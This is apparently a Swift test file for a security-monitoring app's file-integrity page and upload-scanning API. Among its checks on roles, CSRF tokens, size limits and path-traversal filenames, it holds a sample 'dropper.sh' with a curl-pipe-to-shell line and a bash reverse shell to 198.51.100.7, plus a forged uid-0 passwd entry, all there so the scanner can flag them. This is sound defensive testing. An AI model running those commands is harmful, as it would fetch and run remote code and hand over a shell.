@testable import App
import FileInspection
import Foundation
import SQLKit
import Testing

/// The file pages and API as people and scripts use them: an admin checks and accepts on the
/// integrity page, an analyst reads it; an upload (the browser's multipart form, or the API's raw
/// body) is streamed to disk, scanned and deleted; oversized uploads are refused and counted.
@Suite("File pages and API", .timeLimit(.minutes(10)))
struct FilePagesTests {
    static let eicar = #"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#

    static func multipart(_ filename: String, _ content: String, boundary: String = "secmon-test-boundary") -> (String, String) {
        let body = "--\(boundary)\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\(filename)\"\r\nContent-Type: application/octet-stream\r\n\r\n"
            + content + "\r\n--\(boundary)--\r\n"
        return (body, "multipart/form-data; boundary=\(boundary)")
    }

    @Test("integrity page: an admin checks, sees the change, accepts it; an analyst reads without buttons", arguments: TestDatabase.all)
    func integrityPage(db: TestDatabase) async throws {
        let tree = try FileServicesTests.makeTree()
        defer { try? FileManager.default.removeItem(atPath: tree) }
        try await SecMonHarness.with(db) { h in
            let admin = try await h.loggedIn(as: .admin)
            let settings = try await admin.postForm("/files/integrity/settings", ["paths": "\(tree)/etc\n\(tree)/usr/bin", "ignore": "*.swp"])
            #expect(settings.status == .ok && settings.body.contains("Saved"))
            let first = try await admin.postForm("/files/integrity/check", [:])
            #expect(first.status == .ok && first.body.contains("There was no baseline: it was recorded now (5 paths"), "\(first.body.prefix(300))")
            try Data("root:x:0:0::/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n".utf8).write(to: URL(fileURLWithPath: tree + "/etc/passwd"))
            let second = try await admin.postForm("/files/integrity/check", [:])
            #expect(second.body.contains("1 new change(s)") && second.body.contains("\(tree)/etc/passwd"))
            #expect(second.body.contains("id=\"fim-open\"") && second.body.contains("change-modified"))
            let analyst = try await h.loggedIn(as: .analyst)
            let read = try await analyst.get("/files/integrity")
            #expect(read.status == .ok && read.body.contains("\(tree)/etc/passwd") && !read.body.contains("/files/integrity/check"))
            #expect(try await analyst.postForm("/files/integrity/accept", [:]).status == .forbidden)
            // Accept from the page.
            let id = try #require(try await FileIntegrityStore(database: h.app.db as! any SQLDatabase).changes(openOnly: true).first?.id)
            let accepted = try await admin.postForm("/files/integrity/changes/\(id)/accept", [:])
            #expect(accepted.status == .ok && accepted.body.contains("is the baseline now") && accepted.body.contains("id=\"fim-no-changes\""))
            #expect(try await admin.postForm("/files/integrity/changes/\(id)/accept", [:]).status == .conflict)
            // Bad settings: the field at fault, nothing saved.
            let bad = try await admin.postForm("/files/integrity/settings", ["paths": "relative/path", "ignore": ""])
            #expect(bad.status == .badRequest && bad.body.contains("not an absolute path"))
            // The API reads the same state; a check through it answers its schema.
            let token = try await APIv1Tests.token(h, .admin)
            let schemas = try await APIv1Tests.schemas(h, token: token)
            let status = try await APIv1Tests.call(h, .GET, "/api/v1/files/integrity", token: token)
            try schemas.expect(status.body, "GET", "/api/v1/files/integrity")
            #expect(try status.json()["baseline_paths"] as? Int == 5)
            try FileManager.default.removeItem(atPath: tree + "/usr/bin/tool")
            let check = try await APIv1Tests.call(h, .POST, "/api/v1/files/integrity/check", token: token)
            try schemas.expect(check.body, "POST", "/api/v1/files/integrity/check")
            #expect(check.body.contains("\"kind\":\"deleted\""))
            let changes = try await APIv1Tests.call(h, .GET, "/api/v1/files/integrity/changes?status=all", token: token)
            try schemas.expect(changes.body, "GET", "/api/v1/files/integrity/changes")
            let open = try #require((try changes.json()["changes"] as? [[String: Any]])?.first { $0["status"] as? String == "open" })
            let acceptAPI = try await APIv1Tests.call(h, .POST, "/api/v1/files/integrity/changes/\(open["id"] as? String ?? "")/accept", token: token)
            try schemas.expect(acceptAPI.body, "POST", "/api/v1/files/integrity/changes/{id}/accept")
            #expect(try acceptAPI.json()["status"] as? String == "accepted")
            let badStatus = try await APIv1Tests.call(h, .GET, "/api/v1/files/integrity/changes?status=maybe", token: token)
            #expect(badStatus.status == .badRequest && badStatus.body.contains("status"))
        }
    }

    @Test("an upload is scanned and its report shown; EICAR is malicious; too large is refused; the API scans a raw body", arguments: TestDatabase.all)
    func uploads(db: TestDatabase) async throws {
        try await SecMonHarness.with(db, adjust: { $0.scanUploadMaxBytes = 64 * 1024 }) { h in
            let analyst = try await h.loggedIn(as: .analyst)
            let csrf = try await analyst.sessionCSRFToken()
            let (body, type) = Self.multipart("../../eicar.com", Self.eicar)
            let posted = try await analyst.send(.POST, "/files/scans?csrf_token=\(TestClient.encode(csrf))", headers: [("Content-Type", type)], body: body)
            #expect(posted.status == .seeOther)
            let location = try #require(posted.location)
            let report = try await analyst.get(location)
            #expect(report.status == .ok && report.body.contains("id=\"verdict\"") && report.body.contains(">malicious<"))
            #expect(report.body.contains("secmon_test_files") && report.body.contains("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"))
            // The name is the client's last path segment; the upload directory is empty again.
            let scans = try await analyst.get("/files/scans")
            #expect(scans.body.contains(">eicar.com<") && !scans.body.contains("../"), "\(scans.body.suffix(1500))")
            let uploads = try FileManager.default.contentsOfDirectory(atPath: h.config.dataDirectory + "/uploads")
            #expect(uploads.isEmpty)
            // Without the token: refused before a byte is written.
            let forged = try await analyst.send(.POST, "/files/scans", headers: [("Content-Type", type)], body: body)
            #expect(forged.status == .forbidden)
            // Too large: refused with the limit, nothing kept.
            let (big, bigType) = Self.multipart("big.bin", String(repeating: "A", count: 70 * 1024))
            let refused = try await analyst.send(.POST, "/files/scans?csrf_token=\(TestClient.encode(csrf))", headers: [("Content-Type", bigType)], body: big)
            #expect(refused.status == .payloadTooLarge && refused.body.contains("upload limit of 65536 bytes"), "\(refused.status) \(refused.body.prefix(2000))")
            #expect(try FileManager.default.contentsOfDirectory(atPath: h.config.dataDirectory + "/uploads").isEmpty)
            // A form without a file part.
            let empty = "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n--b--\r\n"
            let noFile = try await analyst.send(.POST, "/files/scans?csrf_token=\(TestClient.encode(csrf))", headers: [("Content-Type", "multipart/form-data; boundary=b")], body: empty)
            #expect(noFile.status == .badRequest && noFile.body.contains("no file part"))
            // A viewer cannot scan.
            let viewer = try await h.loggedIn(as: .viewer)
            #expect(try await viewer.get("/files/scans").status == .forbidden)

            // The API: a raw body, named in the query; the answer and the history match their schemas.
            let token = try await APIv1Tests.token(h, .analyst)
            let schemas = try await APIv1Tests.schemas(h, token: token)
            let script = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"
            let api = try await h.client().send(.POST, "/api/v1/files/scans?name=dropper.sh",
                                                headers: [("Authorization", "Bearer \(token)"), ("Content-Type", "application/octet-stream")], body: script)
            #expect(api.status == .created, "\(api.body.prefix(300))")
            try schemas.expect(api.body, "POST", "/api/v1/files/scans", status: 201)
            let answer = try api.json()
            let scanned = try #require(answer["report"] as? [String: Any])
            #expect(scanned["verdict"] as? String == "suspicious" && scanned["type"] as? String == "script" && scanned["name"] as? String == "dropper.sh")
            let list = try await APIv1Tests.call(h, .GET, "/api/v1/files/scans", token: token)
            try schemas.expect(list.body, "GET", "/api/v1/files/scans")
            #expect((try list.json()["scans"] as? [[String: Any]])?.count == 2)
            let one = try await APIv1Tests.call(h, .GET, "/api/v1/files/scans/\(answer["id"] as? String ?? "")", token: token)
            try schemas.expect(one.body, "GET", "/api/v1/files/scans/{id}")
            let tooBig = try await h.client().send(.POST, "/api/v1/files/scans", headers: [("Authorization", "Bearer \(token)")], body: String(repeating: "B", count: 65 * 1024))
            #expect(tooBig.status == .payloadTooLarge)
        }
    }
}
